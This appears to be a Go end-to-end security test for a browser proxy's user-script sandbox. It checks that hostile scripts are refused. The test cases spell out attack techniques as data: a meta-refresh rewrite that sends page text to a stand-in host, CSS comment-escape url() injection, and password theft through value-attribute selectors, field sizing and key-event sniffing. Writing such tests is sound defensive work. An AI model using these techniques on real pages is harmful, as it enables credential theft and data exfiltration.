package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/remixproxy/remixproxy/e2e/e2etest"
	"github.com/remixproxy/remixproxy/sandbox"
	"github.com/remixproxy/remixproxy/store"
)

// The remixlet page policy of issue 12, tried as an attacker would in Chromium through the proxy
// with a witness server: attribute writes on elements that load or navigate (the page's own
// refresh <meta> above all) and addresses a page script would load; stylesheet pieces that end
// inside a comment or string so that the next piece's url() escapes the check; and passwords
// read without any request (value selectors and field sizes read back with dom.style and
// dom.rect, key events from password fields inside shadow roots). Each remixlet is stored and
// activated without the save-time checks, as a version from an older release would be, so the
// proxy's and the page agent's checks are what stands in the way.

// policyCase is one hostile remixlet: body runs in hostileWrapper (its status element says
// "done" when the attempt is over); style is its style.css, if any.
type policyCase struct {
	name    string
	body    string
	style   string
	wantLog string // regexp the remixlet's log must match
}

// policyLoaderCases run side by side on /loaders.
var policyLoaderCases = []policyCase{
	{name: "meta refresh content", body: `const h = await dom.text(await dom.query('h1'));
await dom.setAttr(await dom.query('#refresh'), 'content', '0;url=https://witness.test/refresh?page=' + encodeURIComponent(h));`,
		wantLog: `refused: dom.setAttr: attribute content refused: content matters only on elements that load`},
	{name: "meta refresh http-equiv on another meta", body: `await dom.setAttr(await dom.query('#desc'), 'http-equiv', 'refresh');`,
		wantLog: `refused: dom.setAttr: attribute http-equiv refused`},
	{name: "meta name", body: `await dom.setAttr(await dom.query('#refresh'), 'name', 'keywords');`,
		wantLog: `refused: dom.setAttr: attribute name refused: <meta> elements load, navigate or change how the page is fetched`},
	{name: "link media", body: `await dom.setAttr(await dom.query('#lnk'), 'media', 'print');`,
		wantLog: `refused: dom.setAttr: attribute media refused: <link> elements load`},
	{name: "link title", body: `await dom.setAttr(await dom.query('#lnk'), 'title', 'alternate');`,
		wantLog: `refused: dom.setAttr: attribute title refused: <link> elements load`},
	{name: "form method", body: `await dom.setAttr(await dom.query('#form'), 'method', 'post');`,
		wantLog: `refused: dom.setAttr: attribute method refused: <form> elements load`},
	{name: "iframe name", body: `await dom.setAttr(await dom.query('#ifr'), 'name', 'other');`,
		wantLog: `refused: dom.setAttr: attribute name refused: <iframe> elements load`},
	{name: "svg set retargeted", body: `await dom.setAttr(await dom.query('#setter'), 'to', 'https://witness.test/set');`,
		// Go refuses the address in the value before the page agent sees the element (red-team pass 6d).
		wantLog: `refused: dom.setAttr: attribute to (refused: <set> elements load|\(its value holds the address https://witness.test/set\) refused)`},
	{name: "svg set restarted", body: `await dom.setAttr(await dom.query('#setter'), 'begin', '0s');`,
		wantLog: `refused: dom.setAttr: attribute begin refused: <set> elements load`},
	{name: "text of an iframe", body: `await dom.setText(await dom.query('#ifr'), 'x');`,
		wantLog: `refused: dom.setText: the text of iframe elements cannot be set`},
	{name: "insert into video", body: `await dom.insert(await dom.query('#vid'), await dom.create({ tag: 'img', attrs: { src: '/pic.png' } }));`,
		wantLog: `refused: dom.insert: nothing can be inserted into video elements`},
	{name: "lazy loader data-src", body: `await dom.setAttr(await dom.query('#lazy'), 'data-src', 'https://witness.test/lazy.png');`,
		wantLog: `refused: dom.setAttr: attribute data-src \(its value holds the address https://witness.test/lazy.png\) refused: https://witness.test/lazy.png is not on the page's origin`},
	{name: "lazy loader data-src scheme-relative", body: `await dom.setAttr(await dom.query('#lazy'), 'data-src', '//witness.test/lazy2.png');`,
		wantLog: `refused: dom.setAttr: attribute data-src \(its value holds the address //witness.test/lazy2.png\) refused`},
	{name: "harmless attributes on loaders", body: `await dom.setAttr(await dom.query('#refresh'), 'class', 'seen');
await dom.setAttr(await dom.query('#ifr'), 'title', 'A frame');
await dom.setAttr(await dom.query('#form'), 'aria-label', 'Search');
await dom.setAttr(await dom.query('#lazy'), 'data-src', '/pic.png?again');
rmx.log('harmless ok');`, wantLog: `harmless ok`},
}

// policyStyleCases run side by side on /styles.
var policyStyleCases = []policyCase{
	{name: "style.css ending in a comment", style: "h1 { color: rgb(1, 2, 3) }\n/*",
		body: `await dom.addStyle('p.joined { content: "*/ body { background: url(https://witness.test/joined-style) } /*"; color: rgb(4, 5, 6) }');
rmx.log('piece added');`,
		wantLog: `(?s)refused: style.css 2:1: the stylesheet ends inside a comment.*piece added`},
	{name: "addStyle piece ending in a comment", body: `try {
  await dom.addStyle('h2 { color: rgb(7, 8, 9) } /*');
} finally {
  await dom.addStyle('p.joined2 { content: "*/ body { border-image: url(https://witness.test/joined-piece) 1 } /*"; color: rgb(4, 5, 7) }');
  rmx.log('second piece added');
}`, wantLog: `(?s)refused: dom.addStyle: the stylesheet is refused: 1:28: the stylesheet ends inside a comment.*second piece added`},
	{name: "addStyle piece ending in a string", body: `await dom.addStyle('h3 { content: "');`,
		wantLog: `refused: dom.addStyle: the stylesheet is refused: 1:15: the stylesheet ends inside a string`},
	{name: "addStyle piece ending in a block", body: `await dom.addStyle('@media screen { h4 { color: red }');`,
		wantLog: `refused: dom.addStyle: the stylesheet is refused: 1:15: the stylesheet ends inside the block {`},
	{name: "addStyle endless animation on every element", body: `await dom.addStyle('@keyframes spin { to { rotate: 1turn } } * { animation: spin 1s linear infinite }');`,
		wantLog: `refused: dom.addStyle: the stylesheet is refused: 1:46: animations are refused on a rule whose subject is every element`},
}

// policyPasswordCases run side by side on /login, where #pw holds "hunter2" and the test types
// passwords into #pw2, a password field in an open shadow root and one in a closed one.
var policyPasswordCases = []policyCase{
	{name: "value selectors in style.css", style: `#pw[value^="h"] { width: 123px !important }
#pw2:placeholder-shown { height: 77px !important }
form:has(#pw[value$="2"]) #user { width: 321px !important }`,
		body: `const v = await dom.style(await dom.query('#pw'), ['width']);
const u = await dom.rect(await dom.query('#user'));
const p2 = await dom.style(await dom.query('#pw2'), ['height']);
await rmx.storage.set('read', JSON.stringify({ pw: v.width, user: u.width, pw2: p2.height }));`,
		wantLog: `(?s)refused: style.css 1:5: selectors may not test the value attribute.*refused: style.css 2:6: :placeholder-shown is refused.*refused: style.css 3:14: selectors may not test the value attribute`},
	{name: "value selector by addStyle", body: `let got = '';
for (const c of 'hunter2') {
  try {
    await dom.addStyle('#pw[value^="' + got + c + '"] { width: 123px !important }');
  } catch (e) { rmx.log('refused ' + c); }
  if ((await dom.style(await dom.query('#pw'), 'width')) === '123px') got += c;
}
await rmx.storage.set('read', got || 'nothing');`,
		wantLog: `refused: dom.addStyle: the stylesheet is refused: 1:5: selectors may not test the value attribute`},
	{name: "field-sizing in style.css", style: `#fs1, #fs2 { field-sizing: content !important; width: auto !important; min-width: 0 !important }`,
		body: `const a = await dom.rect(await dom.query('#fs1')), b = await dom.rect(await dom.query('#fs2'));
await rmx.storage.set('read', JSON.stringify({ pw: a.width, pw2: b.width }));`,
		wantLog: `refused: style.css 1:14: the property field-sizing is refused`},
	{name: "field-sizing by setStyle", body: `await dom.setStyle(await dom.query('#pw'), { fieldSizing: 'content' });`,
		wantLog: `refused: dom.setStyle: style fieldSizing refused: it makes a field's size follow its text`},
	{name: "key events on body", body: `const events = [];
const report = (e) => { events.push([e.type, e.key === undefined ? '-' : e.key, e.value === undefined ? '-' : e.value]); rmx.storage.set('read', JSON.stringify(events)); };
const body = await dom.query('body');
await dom.on(body, 'keydown', report);
await dom.on(body, 'keyup', report);
await dom.on(body, 'input', report);`},
}

// policySite serves /loaders, /styles, /login and /sized (a page that sizes its own password
// field by its content), and /pic.png.
func policySite() http.Handler {
	status := func(n int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, "<p class=st id=s-%d></p>\n", i)
		}
		return b.String()
	}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/pic.png":
			w.Header().Set("Content-Type", "image/png")
			w.Write(onePixelPNG)
		case "/a.css":
			w.Header().Set("Content-Type", "text/css")
			fmt.Fprint(w, "h1 { font-weight: bold }")
		case "/blank":
			htmlPage(w, "<!doctype html><title>blank</title>")
		case "/loaders":
			htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Loaders</title>
<meta id="refresh" http-equiv="refresh" content="3600">
<meta id="desc" name="description" content="0;url=https://witness.test/desc">
<link id="lnk" rel="stylesheet" href="/a.css">
</head>
<body><h1>Loaders</h1>
<iframe id="ifr" src="/blank" name="frame" width="10" height="10"></iframe>
<form id="form" action="/ok"><input name="q"></form>
<video id="vid" width="10" height="10"></video>
<svg width="10" height="10"><image id="svgimg" width="1" height="1" href="/pic.png"><set id="setter" attributeName="href" to="/pic.png" begin="indefinite"/></image></svg>
<img id="lazy" class="lazy" data-src="/pic.png" alt="lazy">
`+status(len(policyLoaderCases))+`
<script>
// A lazy loader, as lazysizes and friends do it: whatever data-src says is loaded.
const lazy = document.getElementById('lazy');
const load = () => { if (lazy.dataset.src) lazy.src = lazy.dataset.src; };
new MutationObserver(load).observe(lazy, { attributes: true, attributeFilter: ['data-src'] });
load();
document.body.dataset.pageScript = 'ran';
</script>
</body></html>`)
		case "/styles":
			htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Styles</title></head>
<body><h1>Styles</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4>
<p class="joined">joined</p><p class="joined2">joined 2</p>
`+status(len(policyStyleCases))+`
<script>document.body.dataset.pageScript = 'ran';</script>
</body></html>`)
		case "/login", "/sized":
			sized := ""
			if r.URL.Path == "/sized" {
				sized = `<style>#pw { field-sizing: content }</style>`
			}
			htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Login</title>`+sized+`
<style>input { width: 150px; box-sizing: border-box }</style></head>
<body><h1>Login</h1>
<form id="form" action="/login" onsubmit="return false">
<input id="user" name="user" value="alice">
<input id="pw" type="password" name="pw" value="hunter2">
<input id="pw2" type="password" name="pw2" placeholder="new password">
</form>
<input id="fs1" type="password" value="hunter2"> <input id="fs2" type="password">
<x-open></x-open>
<x-closed></x-closed>
`+status(len(policyPasswordCases))+`
<script>
// A login widget with an open shadow root, and one with a closed root that only its own code
// can reach (the test focuses its field through focusField, as a click would).
customElements.define('x-open', class extends HTMLElement {
  connectedCallback() {
    const root = this.attachShadow({ mode: 'open' });
    root.innerHTML = '<input id="stxt" placeholder="text"><input id="spw" type="password">';
  }
});
customElements.define('x-closed', class extends HTMLElement {
  #root;
  connectedCallback() {
    this.#root = this.attachShadow({ mode: 'closed' });
    this.#root.innerHTML = '<input id="cpw" type="password">';
  }
  focusField() { this.#root.getElementById('cpw').focus(); }
  fieldValue() { return this.#root.getElementById('cpw').value; }
});
document.body.dataset.pageScript = 'ran';
</script>
</body></html>`)
		default:
			http.NotFound(w, r)
		}
	})
}

func startPolicy(t *testing.T) *hostileWorld {
	wit := &witness{}
	return startHostileWorld(t, wit, map[string]http.Handler{"policy.test": policySite(), "witness.test": wit})
}

// addPolicy stores and activates the cases for pages matching matches, without the save-time
// checks; every case may use rmx.storage to report what it read.
func (h *hostileWorld) addPolicy(cases []policyCase, matches string) []store.Remixlet {
	var out []store.Remixlet
	for i, c := range cases {
		name := fmt.Sprintf("policy %02d %s", i, c.name)
		files := store.Files{
			sandbox.ManifestFile: []byte(hostileManifest(name, matches, true)),
			sandbox.ScriptFile:   []byte(fmt.Sprintf(hostileWrapper, i, c.body)),
		}
		if c.style != "" {
			files[sandbox.StyleFile] = []byte(c.style)
		}
		out = append(out, saveUnchecked(h.t, h.st, name, files))
	}
	return out
}

// runPolicy opens page, waits for every case to finish and checks each case's log.
func (h *hostileWorld) runPolicy(page string, cases []policyCase, rxs []store.Remixlet) {
	h.t.Helper()
	h.tab.Navigate(page)
	h.tab.WaitConnected()
	allDone := fmt.Sprintf(`[...document.querySelectorAll('p.st')].filter((e) => e.textContent === 'done').length === %d`, len(cases))
	if err := waitTrue(h.tab, 20*time.Second, allDone); err != nil {
		var missing []string
		for i, c := range cases {
			if e2etest.Eval[string](h.tab, fmt.Sprintf(`document.getElementById('s-%d').textContent`, i)) != "done" {
				missing = append(missing, fmt.Sprintf("%s:\n%s", c.name, h.diagnose(rxs[i])))
			}
		}
		h.t.Fatalf("not every remixlet finished: %v\n%s", err, strings.Join(missing, "\n"))
	}
	for i, c := range cases {
		if c.wantLog == "" {
			continue
		}
		if log, ok := h.waitLog(rxs[i], regexp.MustCompile(c.wantLog), 5*time.Second); !ok {
			h.t.Errorf("%s: the remixlet's log does not match %q:\n%s", c.name, c.wantLog, log)
		}
	}
}

// TestHostilePolicyLoaders: attribute writes on elements that load, navigate or change how the
// page is fetched are refused (the refresh <meta> keeps its content, the tab stays), and an
// address planted in a data- attribute for the page's lazy loader is refused.
func TestHostilePolicyLoaders(t *testing.T) {
	h := startPolicy(t)
	rxs := h.addPolicy(policyLoaderCases, "https://policy.test/loaders*")
	h.runPolicy("https://policy.test/loaders", policyLoaderCases, rxs)
	tab := h.tab
	// A refresh to the witness would have left by now (0 seconds); give it a moment more.
	time.Sleep(1500 * time.Millisecond)
	if u := tab.URL(); u != "https://policy.test/loaders" {
		t.Errorf("the tab navigated to %s", u)
	}
	if v := e2etest.Eval[string](tab, `document.getElementById('refresh').getAttribute('content') + ' ' + document.getElementById('desc').getAttribute('http-equiv')`); v != "3600 null" {
		t.Errorf("the metas changed: refresh content and description http-equiv %q, want \"3600 null\"", v)
	}
	if v := e2etest.Eval[string](tab, `document.getElementById('lazy').getAttribute('src')`); v != "/pic.png?again" {
		t.Errorf("the lazy image's src is %q, want the page's own /pic.png?again (the harmless case's)", v)
	}
	if v := e2etest.Eval[string](tab, `[document.getElementById('refresh').className, document.getElementById('ifr').title, document.getElementById('form').getAttribute('aria-label'), document.getElementById('lnk').getAttribute('media'), document.getElementById('setter').getAttribute('to')].join('|')`); v != "seen|A frame|Search||/pic.png" {
		t.Errorf("loader attributes after the cases: %q, want the harmless ones set and no other change", v)
	}
	h.checkNoWitnessThenControl("after the loader cases")
}

// TestHostilePolicyStylesheetPieces: a style.css or an addStyle piece that ends inside a comment,
// string or block is refused whole, and each piece is parsed alone, so a url() hidden in the next
// piece's string never becomes a rule; pieces that pass still apply. An endless animation on
// every element is refused.
func TestHostilePolicyStylesheetPieces(t *testing.T) {
	h := startPolicy(t)
	rxs := h.addPolicy(policyStyleCases, "https://policy.test/styles*")
	h.runPolicy("https://policy.test/styles", policyStyleCases, rxs)
	tab := h.tab
	got := e2etest.Eval[string](tab, `['h1', 'h2', 'p.joined', 'p.joined2'].map((s) => getComputedStyle(document.querySelector(s)).color).join('|')`)
	if want := "rgb(0, 0, 0)|rgb(0, 0, 0)|rgb(4, 5, 6)|rgb(4, 5, 7)"; got != want {
		t.Errorf("colours of h1, h2 and the joined paragraphs: %s, want %s (refused sheets not applied, the passing pieces applied)", got, want)
	}
	if bg := e2etest.Eval[string](tab, `getComputedStyle(document.body).backgroundImage + ' ' + getComputedStyle(document.body).borderImageSource`); bg != "none none" {
		t.Errorf("the body got %q: a url() hidden in a piece's string became a rule", bg)
	}
	if n := e2etest.Eval[int](tab, `document.getAnimations().length`); n != 0 {
		t.Errorf("%d animations run on the page, want 0", n)
	}
	time.Sleep(500 * time.Millisecond)
	h.checkNoWitnessThenControl("after the stylesheet cases")
}

// TestHostilePolicyPasswordSideChannels: no selector tests a password's value or emptiness, no
// field is sized by its text, and key and input events from password fields — in the page, in an
// open shadow root and in a closed one — carry no key or value, while a text field's do.
func TestHostilePolicyPasswordSideChannels(t *testing.T) {
	h := startPolicy(t)
	rxs := h.addPolicy(policyPasswordCases, "https://policy.test/login*")
	h.runPolicy("https://policy.test/login", policyPasswordCases, rxs)
	tab := h.tab
	read := func(i int) map[string]any {
		v := h.storedString(rxs[i], "read")
		t.Logf("%s: read %s", policyPasswordCases[i].name, v)
		var m map[string]any
		if err := json.Unmarshal([]byte(v), &m); err != nil {
			t.Errorf("%s: the remixlet stored %q, not what it measured: %v\n%s", policyPasswordCases[i].name, v, err, h.diagnose(rxs[i]))
		}
		return m
	}
	// The refused rules would have set these sizes: none may be read back.
	if m := read(0); m["pw"] != "150px" || m["user"] != 150.0 || m["pw2"] == "77px" {
		t.Errorf("value selectors in style.css: read %v, want the page's own sizes (150px, 150) and not the 77px height", m)
	}
	if v := h.storedString(rxs[1], "read"); v != "nothing" {
		t.Errorf("value selector by addStyle: the remixlet recovered %q of the password", v)
	}
	if m := read(2); m["pw"] == nil || m["pw"] != m["pw2"] {
		t.Errorf("field-sizing in style.css: widths of the filled and the empty password field %v, want them equal", m)
	}

	// Type into a text field and a password field in the open shadow root, the password field in
	// the closed one, the page's #pw2 and, as controls, #user.
	type typing struct{ focus, keys string }
	for _, ty := range []typing{
		{`document.querySelector('x-open').shadowRoot.getElementById('stxt').focus()`, "zq"},
		{`document.querySelector('x-open').shadowRoot.getElementById('spw').focus()`, "hunter2"},
		{`document.querySelector('x-closed').focusField()`, "hunter2"},
		{`document.getElementById('pw2').focus()`, "hunter2"},
		{`document.getElementById('user').focus()`, "k"},
	} {
		e2etest.Eval[any](tab, ty.focus)
		ctx, cancel := context.WithTimeout(tab.Context(), 15*time.Second)
		err := chromedp.Do(ctx, chromedp.KeyEvent(ty.keys))
		cancel()
		if err != nil {
			t.Fatalf("typing %q: %v", ty.keys, err)
		}
	}
	if v := e2etest.Eval[string](tab, `[document.querySelector('x-open').shadowRoot.getElementById('spw').value, document.querySelector('x-closed').fieldValue(), document.getElementById('pw2').value, document.getElementById('user').value].join('|')`); v != "hunter2|hunter2|hunter2|kalice" {
		t.Fatalf("the typed values in the page are %q (typing did not work)", v)
	}
	keys := policyPasswordCases[4]
	rx := rxs[4]
	var events [][]string
	var all string
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		all = h.storedString(rx, "read")
		if strings.Contains(all, `["input","-","kalice"]`) || time.Now().After(deadline) {
			break
		}
	}
	if err := json.Unmarshal([]byte(all), &events); err != nil {
		t.Fatalf("%s: the remixlet stored %q: %v\n%s", keys.name, all, err, h.diagnose(rx))
	}
	t.Logf("%s: %d events: %s", keys.name, len(events), head(all, 800))
	for _, want := range []string{`["keydown","z",`, `["keydown","q",`, `["input","-","zq"]`, `["keydown","k",`, `["input","-","kalice"]`} {
		if !strings.Contains(all, want) {
			t.Errorf("%s: the control event %s is missing: the listener did not see the text fields", keys.name, want)
		}
	}
	// None of the password fields' events, not even blank ones: their number is the length.
	if n := strings.Count(all, `["keydown",`); n != 3 {
		t.Errorf("%s: %d keydowns, want only the three typed into the text fields", keys.name, n)
	}
	for _, e := range events {
		if len(e) != 3 {
			t.Fatalf("%s: event %q is not [type, key, value]", keys.name, e)
		}
		if len(e[1]) == 1 && strings.Contains("hunter2", e[1]) || strings.Contains(e[2], "hun") || strings.Contains(e[2], "ter2") {
			t.Errorf("%s: an event carries part of a password: %q", keys.name, e)
		}
	}
	h.checkNoWitness("after the password cases")
}

// TestHostilePolicyPageSizedPassword: a page that sizes its own password field by its content
// (field-sizing: content) lets no remixlet measure anything.
func TestHostilePolicyPageSizedPassword(t *testing.T) {
	h := startPolicy(t)
	c := []policyCase{{name: "measure", body: `let out = [];
for (const sel of ['#pw', '#form', '#user']) {
  try { out.push((await dom.rect(await dom.query(sel))).width); } catch (e) { out.push('refused'); }
}
try { out.push(await dom.style(await dom.query('#form'), 'width')); } catch (e) { out.push('refused'); }
await rmx.storage.set('read', out.join(','));`,
		wantLog: `refused: dom.rect: dom.rect is refused on this page: a password field here is sized by its content`}}
	rxs := h.addPolicy(c, "https://policy.test/sized*")
	h.runPolicy("https://policy.test/sized", c, rxs)
	if v := h.storedString(rxs[0], "read"); v != "refused,refused,refused,refused" {
		t.Errorf("measurements on a page with a content-sized password field: %s, want every one refused\n%s", v, h.diagnose(rxs[0]))
	}
}

// storedString is the string a remixlet stored under key with rmx.storage ("" when none).
func (h *hostileWorld) storedString(rx store.Remixlet, key string) string {
	v, ok := h.storageValue(rx, key)
	var s string
	if ok && json.Unmarshal([]byte(v), &s) != nil {
		h.t.Errorf("storage %s of %s is %q, not a string", key, rx.Name, v)
	}
	return s
}
